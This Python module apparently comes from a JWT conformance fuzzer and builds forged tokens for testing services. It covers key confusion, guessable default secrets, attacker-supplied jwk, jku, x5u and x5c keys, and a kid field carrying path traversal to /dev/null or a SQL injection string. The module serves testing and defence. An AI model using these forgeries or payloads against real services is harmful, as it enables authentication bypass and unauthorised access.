"""Attacks by tokens that a wrong key signed: a guessed secret, the attacker's own key, an unfit key."""

from __future__ import annotations

import base64
import json
from typing import TYPE_CHECKING, Any

from specwitness.fuzz.tokens.attack import Attack, Material, Recipe, with_mint, with_token
from specwitness.fuzz.tokens.minting import NOWHERE
from specwitness.fuzz.users import jose

if TYPE_CHECKING:
    from collections.abc import Callable

    from specwitness.fuzz.users.identity import Mint, UnfitKey

_LEAST_BYTES = 32  # RFC 7518 §3.2, for HS256
_SIBLINGS = {
    "HS256": ("HS512",),
    "HS384": ("HS256",),
    "HS512": ("HS256",),
    "RS256": ("RS512", "PS256"),
    "PS256": ("PS512", "RS256"),
}
_NO = ...  # a parameter that is left out
# From tutorials, from jwt.io, and the default of Better Auth.
_GUESSABLE = (
    "secret",
    "changeme",
    "your-secret-key",
    "your-256-bit-secret",
    "better-auth-secret-12345678901234567890",
)


def _forge(token: jose.Token, key: jose.Key, **parameters: Any) -> str | None:
    """Sign the claims of a good token with another key; None where the key does not fit the algorithm."""
    header = {name: value for name, value in {**token.parameters, **parameters}.items() if value is not _NO}
    try:
        return str(jose.sign(jose.dump(header), jose.decode(token.payload), str(header.get("alg")), key))
    except (ValueError, KeyError):
        return None


def _by_own_key(describe: Callable[[Material, jose.Key], dict[str, Any]]) -> Recipe:
    """Sign with a new key; `describe` gives the header parameters that name or hold it."""

    def make(material: Material, token: jose.Token) -> str | None:
        key = jose.make_key(str(token.parameters.get("alg")))
        if key is None:
            return None
        parameters = describe(material, key)
        return None if None in parameters.values() else _forge(token, key, **parameters)

    return with_token(make)


def _by_secret(secret: str, *, anywhere: bool = False, **parameters: Any) -> Recipe:
    """Sign with a secret, if the good token is signed with one too, or `anywhere`."""

    def make(_material: Material, token: jose.Token) -> str | None:
        algorithm = str(token.parameters.get("alg"))
        is_secret = algorithm.startswith("HS")
        if not is_secret and not anywhere:
            return None
        return _forge(token, secret.encode(), alg=algorithm if is_secret else "HS256", **parameters)

    return with_token(make)


def _name_none(material: Material, _key: jose.Key) -> dict[str, Any]:
    token = material.token
    # A service whose tokens have no `kid` gets the same token by the attack before this one.
    return {"kid": _NO if token and "kid" in token.parameters else None}


def _name_key_set(material: Material, key: jose.Key) -> dict[str, Any]:
    if material.host is None:
        return {"jku": f"{NOWHERE}jwks"}
    return {"jku": material.host.publish("jwks", _dump_set(key))}


def _carry_key_set(_material: Material, key: jose.Key) -> dict[str, Any]:
    return {"jku": f"data:application/json;base64,{base64.b64encode(_dump_set(key)).decode()}"}


def _name_certificate(material: Material, key: jose.Key) -> dict[str, Any]:
    certificate = jose.certify(key)
    if certificate is None or material.host is None:
        return {"x5u": f"{NOWHERE}certificate" if certificate else None}
    return {"x5u": material.host.publish("certificate", jose.as_pem(certificate))}


def _carry_certificate(_material: Material, key: jose.Key) -> dict[str, Any]:
    certificate = jose.certify(key)
    return {"x5c": [base64.b64encode(certificate).decode()] if certificate else None}


def _dump_set(key: jose.Key) -> bytes:
    return json.dumps({"keys": [jose.public_jwk(key)]}).encode()


def _by_public_key(material: Material, mint: Mint) -> str | None:
    public = jose.public_pem(mint.signing_key)
    token = material.token
    return _forge(token, public, alg="HS256") if token and public else None


def _by_sibling(index: int) -> Callable[[Material, Mint], str | None]:
    """Sign with the right key and another algorithm that it fits: RS256 -> RS512, PS256."""

    def make(material: Material, mint: Mint) -> str | None:
        algorithms = _SIBLINGS.get(mint.algorithm, ())
        if index >= len(algorithms) or material.token is None:
            return None
        return _forge(material.token, mint.signing_key, alg=algorithms[index])

    return make


def _by_short_secret(material: Material, mint: Mint) -> str | None:
    """Give the good token if its secret is shorter than 32 bytes: the service should not have started."""
    key = mint.signing_key
    return material.value if isinstance(key, bytes) and len(key) < _LEAST_BYTES else None


def _row(name: str, breaks: str, recipe: Recipe, *, core: bool = False) -> Attack:
    return Attack(name, "forged", breaks, recipe, core=core)


KEY_ATTACKS = (
    _row("a token signed by another key", "RFC 7515 §5.2", _by_own_key(lambda *_: {}), core=True),
    _row("a token signed by another key, which it does not name", "RFC 7515 §5.2", _by_own_key(_name_none)),
    _row(
        "a token signed by another key, under a name that nobody knows",
        "RFC 8725 §3.10",
        _by_own_key(lambda *_: {"kid": "none-of-yours"}),
    ),
    _row("a token signed with an empty secret", "RFC 8725 §3.5", _by_secret("", anywhere=True)),
    *(
        _row(f"a token signed with the secret {secret!r}", "RFC 8725 §3.5", _by_secret(secret))
        for secret in _GUESSABLE
    ),
    _row(
        "a token that brings its own key",
        "RFC 8725 §3.10",
        _by_own_key(lambda _, key: {"jwk": jose.public_jwk(key)}),
    ),
    _row("a token that says where its key is", "RFC 8725 §3.10", _by_own_key(_name_key_set)),
    _row("a token whose address of its key is the key", "RFC 8725 §3.10", _by_own_key(_carry_key_set)),
    _row("a token that brings its own certificate", "RFC 8725 §3.10", _by_own_key(_carry_certificate)),
    _row("a token that says where its certificate is", "RFC 8725 §3.10", _by_own_key(_name_certificate)),
    _row(
        "a token whose key id is the path of an empty file",
        "RFC 8725 §3.10",
        _by_secret("", anywhere=True, kid="../../../../../../dev/null"),
    ),
    _row(
        "a token whose key id is SQL",
        "RFC 8725 §3.10",
        _by_secret("x", anywhere=True, kid="' UNION SELECT 'x' --"),
    ),
)
# These need the service's key.
MINTED_KEY_ATTACKS = (
    _row(
        "a token signed with the public key as a secret",
        "RFC 8725 §2.1",
        with_mint(_by_public_key),
        core=True,
    ),
    _row("a token signed by another algorithm with the same key", "RFC 8725 §3.1", with_mint(_by_sibling(0))),
    _row("a token signed by a third algorithm with the same key", "RFC 8725 §3.1", with_mint(_by_sibling(1))),
    _row("a token signed with a secret below 32 bytes", "RFC 7518 §3.2", with_mint(_by_short_secret)),
)


def list_unfit_key_attacks(mint: Mint | None) -> tuple[Attack, ...]:
    """Make one attack for each unfit key of the mint, such as an encryption key of the service's key set."""
    keys = mint.unfit if mint else ()
    return tuple(
        _row(f"a token signed by a key that {key.why}", "RFC 8725 §3.1", _by_unfit(key)) for key in keys
    )


def _by_unfit(key: UnfitKey) -> Recipe:
    named = {"alg": key.algorithm, **({"kid": key.kid} if key.kid else {})}
    return with_token(lambda _, token: _forge(token, jose.read_key(key.algorithm, key.key), **named))
